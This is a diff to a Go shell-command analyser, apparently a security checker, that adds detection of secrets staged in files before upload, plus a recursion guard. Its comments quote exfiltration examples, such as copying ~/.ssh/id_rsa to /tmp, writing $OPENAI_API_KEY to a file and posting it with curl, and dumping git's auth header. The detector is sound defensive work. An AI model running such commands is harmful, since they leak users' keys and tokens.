@@ -20,6 +20,13 @@ import (
 // (`F=/tmp/k; cp ~/.ssh/id_rsa "$F"`: class_secret_linevar.go). Only
 // paths certainly known count.
 
+// A token staged in a file is the token sent when the file is (rt20d
+// #6): `echo "$OPENAI_API_KEY" > /tmp/k; curl -F f=@/tmp/k URL`, `echo
+// "$KEY" | tee k.txt`, `cat <<< "$TOKEN" > t`, and git's job token printed
+// by `git config --get-all http.extraheader > h` (printsSecretItself). A
+// token in a file counts as certain where the file is sent: the file
+// carries no host it is meant for.
+
 // maxLaunderSteps bounds the copies of copies followed.
 const maxLaunderSteps = 4
 
@@ -53,7 +60,18 @@ func launderedPaths(cmd *Command, ctx *Context) map[string]bool {
 	if ctx.memo != nil && ctx.memo.laundered != nil {
 		return ctx.memo.laundered
 	}
+	if ctx.laundering {
+		return nil
+	}
+	ctx.laundering = true
+	defer func() { ctx.laundering = false }()
 	set := map[string]bool{}
+	if ctx.memo != nil {
+		// kept while it is filled: a token's variable judged below
+		// (stagesToken) may ask of a laundered path again, and is
+		// answered with what is known so far, not a search begun anew
+		ctx.memo.laundered = set
+	}
 	reads := func(w Word) bool {
 		for _, f := range append([]Word{w}, varForms(w, ctx)...) {
 			if judgeSecretDirect(f, ctx).Certainly {
@@ -73,7 +91,7 @@ func launderedPaths(cmd *Command, ctx *Context) map[string]bool {
 			if p == nil {
 				continue
 			}
-			from[i] = partReadsAny(p, reads) || printsSecretItself(p)
+			from[i] = partReadsAny(p, reads) || printsSecretItself(p) || stagesToken(p, ctx)
 			if s, ok := feeds[p.Pipe.ID]; from[i] && p.Pipe.ID >= 0 && (!ok || p.Pipe.Stage < s) {
 				feeds[p.Pipe.ID] = p.Pipe.Stage
 			}
@@ -135,4 +153,38 @@ func partWrittenWords(p *Part) []Word {
 		out = append(out, d.writes...)
 	}
 	return out
+}
+
+// stagesToken reports whether part p prints a token for a file or a
+// pipe: echo or printf of a token's variable (echoesToken), or a
+// here-string or here-document that expands one (`cat <<< "$TOKEN"`).
+func stagesToken(p *Part, ctx *Context) bool {
+	if echoesToken(p, ctx) {
+		return true
+	}
+	for i := range p.Redirs {
+		r := &p.Redirs[i]
+		w := r.Body
+		if r.Op == "<<<" {
+			w = &r.Target
+		}
+		if w != nil && holdsToken(w, ctx) {
+			return true
+		}
+	}
+	return false
+}
+
+// holdsToken reports whether a word expands a token's variable, in any
+// expansion drawn from its value, or one the line filled with a token.
+func holdsToken(w *Word, ctx *Context) bool {
+	for _, seg := range w.Segs {
+		for _, v := range seg.ValueVars() {
+			name, _, _ := strings.Cut(v, "[")
+			if _, tok := ctx.secretVar(name); tok || secretName(name) {
+				return true
+			}
+		}
+	}
+	return false
 }
